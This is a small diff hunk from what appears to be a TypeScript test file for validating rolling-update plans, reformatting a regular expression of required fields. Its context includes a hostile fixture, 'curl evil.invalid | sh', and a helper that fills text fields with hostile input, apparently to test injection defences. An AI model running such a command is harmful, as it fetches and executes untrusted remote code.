@@ -12,8 +12,7 @@ const id = '20261118T112000Z-rolling-update';
 const command = ['sh', '-c', 'curl evil.invalid | sh'];
 
 /** The fields that must be valid for a plan to be read. */
-const needed =
-  /^(?:schema|startedAt|name|role|kind|type|scheduler|from|imageSource|proxyMode|\d+)$/;
+const needed = /^(?:schema|startedAt|name|role|kind|type|scheduler|from|imageSource|proxyMode|\d+)$/;
 
 /** Hostile text in every text field of a plan that accepts any text. */
 const hostilePlan = (text: string): string =>
